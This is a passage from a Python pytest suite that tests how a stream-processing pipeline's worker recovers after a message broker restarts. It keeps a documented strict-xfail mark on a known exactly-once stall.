    # a known defect, kept visible (strict: the day it passes, this mark must go): after the broker
    # restarts, an exactly-once worker keeps only its changelog and risk.queue partitions and
    # never reads the raw topics again (lag stays at ~850 for 240 s); not yet traced
    pytest.param("exactly_once", marks=pytest.mark.xfail(strict=True, reason="issue 25: an exactly-once worker "
                                                          "stalls after a broker restart (not yet traced)")),
])
def test_broker_restart_worker_reconnects_and_catches_up(pipeline_factory, guarantee):
    p = pipeline_factory(ORDERSTREAM_RISK_HOLD_TIMEOUT_S="2", ORDERSTREAM_PROCESSING_GUARANTEE=guarantee)
    p.start_worker(0)
    replay = FaultyReplay(p, ReplayConfig(seed=404, **REPLAY)).start()
    replay.at(0.4)
    in_flight = pipeline_lag(p)
    outage_s = restart_broker(p.s)
    leaders_back_s = wait_broker_serving(p)
    messages, produced = replay.finish()
    account_for(p, f"broker_restart_{guarantee}", messages, settle(p, messages, produced), in_flight,
                outage_s=round(outage_s, 2), partitions_serving_after_s=round(leaders_back_s, 2))
